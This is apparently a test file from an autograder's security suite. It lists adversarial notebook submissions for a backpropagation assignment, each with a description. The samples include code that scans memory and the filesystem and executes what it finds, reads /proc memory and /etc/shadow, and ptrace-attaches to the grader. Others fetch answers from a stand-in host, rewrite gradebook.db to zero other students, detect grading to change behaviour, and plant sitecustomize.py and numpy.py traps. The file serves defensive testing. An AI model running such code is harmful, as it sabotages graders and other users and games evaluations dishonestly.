"""Look for the answers, or carry the questions out."""

from __future__ import annotations

from typing import Any

from autograder.cli.demo import answer_cell
from autograder.questions import catalogue, references
from tests.attacks.attack import PLACE, cheat, forge, harm

GROUP = "look for answers"

cheat(
    GROUP,
    "walks-the-heap",
    "searches all objects and all frames for expected values, and answers with what it finds",
    """
import gc, sys
import numpy as np
def like(shape):
    held = [o for o in gc.get_objects() if type(o) in (dict, list, tuple, bytes)]
    frame, local = sys._getframe(), []
    while frame:
        local += list(frame.f_locals.values())
        frame = frame.f_back
    for each in held + local:
        for value in each.values() if type(each) is dict else each if type(each) is list else ():
            if type(value) is np.ndarray and value.shape == shape:
                yield value
def relu_backward(dout, z):
    return next((v.copy() for v in like(z.shape) if v is not dout and v is not z), 0 * z)
""",
)
cheat(
    GROUP,
    "walks-the-files",
    "searches every file for reference values, the secret, the gradebook and the solutions",
    """
import os
wanted = ("gradebook.db", "secret", "nbgrader_config.py", "week06_backpropagation.npz")
found = []
for folder, _, names in os.walk("/"):
    if folder.startswith("/sys"):
        continue
    found += [os.path.join(folder, name) for name in names if name in wanted]
assert found, "nothing to be found"
for path in found:
    exec(compile(open(path, "rb").read(), path, "exec"))
""",
    danger="it would run what it finds on the machine",
)
cheat(
    GROUP,
    "reads-the-grader's-memory",
    "opens, reads and traces the process that started it, and looks at its environment",
    """
import ctypes, os
for number in {1, os.getppid()}:
    for name in ("mem", "environ", "maps", "fd", "cwd/gradebook.db", "root/etc/shadow"):
        try:
            print(open(f"/proc/{number}/{name}", "rb").read(100))
        except OSError as error:
            print(error)
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
print(libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0), libc.ptrace(PTRACE_ATTACH, 1, 0, 0))
""",
    danger="it would stop the process that started it",
)
cheat(
    GROUP,
    "core-file",
    "raises its core limit and crashes, to read the memory image that is left behind",
    """
import os, resource
resource.setrlimit(resource.RLIMIT_CORE, (2**20, 2**20))
os.chdir("/tmp")
os.abort()
""",
)
cheat(
    GROUP,
    "automatic-gradients",
    "computes the gradients with TensorFlow, Keras, JAX, PyTorch or autograd",
    """
import importlib
for name in ("tensorflow", "keras", "jax", "torch", "autograd", "course_lib.gradients"):
    try:
        importlib.import_module(name)
        break
    except ImportError as error:
        print(error)
else:
    raise SystemExit("none is here")
tf = importlib.import_module("tensorflow")
def relu_backward(dout, z):
    z = tf.constant(z)
    with tf.GradientTape() as tape:
        tape.watch(z)
        out = tf.nn.relu(z)
    return tape.gradient(out, z, dout).numpy()
""",
    danger="it is right wherever TensorFlow is installed, as it is where Keras grades",
)
cheat(
    GROUP,
    "installs-and-downloads",
    "installs a package, and downloads the answers from the network",
    """
import os, socket, subprocess, sys, urllib.request
subprocess.run([sys.executable, "-m", "pip", "--version"], check=False)
for address in ("192.0.2.1", "127.0.0.1"):
    try:
        socket.create_connection((address, 80), 1)
    except OSError as error:
        print(error)
urllib.request.urlopen("http://answers.example/week06.py", timeout=2)
""",
    danger="it would reach the network",
)
cheat(
    GROUP,
    "grader's-own-questions",
    "imports the grader's questions, references and judge",
    """
from autograder.questions import catalogue
def relu_backward(dout, z):
    return catalogue.week("week06").questions["relu_backward"].reference(dout, z)
""",
    danger="there is no such module in a plain course",
)
cheat(
    GROUP,
    "writes-the-gradebook",
    "gives itself full marks, and its neighbour none, in the gradebook's database",
    """
import os, sqlite3
folder = os.getcwd()
while folder != "/" and not os.path.exists(folder + "/gradebook.db"):
    folder = os.path.dirname(folder)
database = sqlite3.connect(folder + "/gradebook.db", timeout=20)
of = ("(select n.id from submitted_notebook n join submitted_assignment s "
      "on s.id = n.assignment_id where s.student_id {})")
# Its own row is written when it has been graded, so a trigger waits for it.
database.executescript(f'''
create trigger if not exists generous after update on grade begin
  update grade set manual_score = 6.0
    where id = new.id and notebook_id in {of.format("= 'mallory'")};
  update grade set manual_score = 0.0
    where id = new.id and notebook_id in {of.format("<> 'mallory'")};
end;
update grade set manual_score = 0.0 where notebook_id in {of.format("<> 'mallory'")};
''')
database.commit()
""",
)
cheat(
    GROUP,
    "asks-right-functions",
    "waits until follow-through gives it the solution's function, and answers with that",
    """
import numpy as np
def relu_backward(dout, z): return 0 * z
def dense_backward(dout, X, W): return 0 * X, 0 * W, 0 * W[0]
def tanh_backward(dout, out):
    return relu_backward(dout * (1 - out**2), np.ones_like(out))
def mlp_loss_and_grads(X, y, params):
    global kept
    kept = relu_backward, dense_backward
    raise ValueError(repr(relu_backward(np.ones((2, 2)), np.ones((2, 2)))))
def sigmoid_backward(dout, out):
    return kept[0](dout * out * (1 - out), np.ones_like(out)) if "kept" in globals() else 0 * out
""",
    gains=(5.0, "Its tanh is right: what it calls was counted in relu_backward."),
)
cheat(
    GROUP,
    "detects-grading",
    "tells by its surroundings whether it is graded, and answers otherwise there",
    """
import os, socket
graded = (
    "NBGRADER_EXECUTION" in os.environ
    or socket.gethostname() == "sandbox"
    or os.environ.get("USER") == "student"
)
def relu_backward(dout, z): return 0 * z if graded else dout
print("full marks" if graded else "all is well")
""",
)
cheat(
    GROUP,
    "errors-carry-hidden-inputs",
    "copies the inputs of hidden cases into error messages and names, to read in the feedback",
    """
import gc
import numpy as np
def seen(window):
    found = []
    for waiting in gc.get_objects():
        if type(waiting) is list and waiting and type(waiting[0]) is dict:
            for each in waiting if "arguments" in waiting[0] else ():
                for given in each["arguments"].values():
                    if type(given) is np.ndarray and given.size:
                        found.append(repr(float(given.flat[0])))
    return " ".join(dict.fromkeys(found))[280 * window :][:280]
def relu_backward(dout, z): raise ValueError(seen(0))
def sigmoid_backward(dout, out): raise ValueError(seen(1))
def tanh_backward(dout, out): raise ValueError(seen(2))
def relative_error(a, b): raise ValueError(seen(3))
def dense_backward(dout, X, W): raise KeyError(seen(4))
def mlp_loss_and_grads(X, y, params): raise KeyError(seen(5))
""",
)
harm(
    GROUP,
    "lines-carry-hidden-inputs",
    "is right in public cases, and raises at a forged line whose number and text are hidden inputs",
    f"""
import linecache, os
import numpy as np
def relu_backward(dout, z):
    open("/tmp/calls", "a").write("1")
    if os.path.getsize("/tmp/calls") <= {len(catalogue.week("week06").questions[PLACE].cases)}:
        return dout * (z > 0)
    number = float(np.ravel(z)[0])
    name = relu_backward.__code__.co_filename
    class Lines(list):
        def __len__(self): return 10**9
        def __getitem__(self, _): return repr(number)
    linecache.cache[name] = 1, None, Lines(), name
    exec(compile("1 / 0", name, "exec").replace(co_firstlineno=1 + int(abs(number) * 10**6)))
""",
)
harm(
    GROUP,
    "leaves-a-message",
    "leaves hidden inputs in files, shared memory and sockets for the next student's code",
    """
import os, socket
kept = socket.socket(socket.AF_UNIX)
kept.bind("\\0answers")
kept.listen()
for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
    for name in ("answers", ".answers", "sitecustomize.py", "numpy.py"):
        try:
            open(f"{place}/{name}", "w").write("raise SystemExit('read by the next')")
        except OSError:
            pass
def relu_backward(dout, z):
    open("/tmp/hidden", "ab").write(z.tobytes())
    return 0 * z
""",
    danger="it would leave files on the machine",
)


@forge(GROUP, "looks its answers up in a table of the public cases, which every student has")
def memorises_public_cases(notebook: Any) -> None:
    week = catalogue.week("week06")
    question = week.questions[PLACE]
    public = references.public(week.questions.values(), week.stem)
    rows = []
    for case in question.cases.values():
        given = references.inputs(question, case, references.PUBLIC_SECRET)
        answer = public[question.name, case.name].value
        rows.append((given["z"].tobytes().hex(), answer.tolist()))
    answer_cell(notebook, PLACE).source = (
        f"import numpy as np\nTABLE = dict({rows!r})\n"
        "def relu_backward(dout, z):\n"
        "    return np.array(TABLE.get(z.tobytes().hex(), np.zeros(z.shape).tolist()))"
    )


harm(
    GROUP,
    "finite-differences",
    "answers by finite differences in place of the chain rule",
    """
import numpy as np
def relu_backward(dout, z):
    eps = 1e-6
    slope = (np.maximum(z + eps, 0) - np.maximum(z - eps, 0)) / (2 * eps)
    return dout * np.where(z == 0, 0, np.round(slope))
""",
    gains=(6.0, "A right number by another road is a right answer, not a forged one."),
)
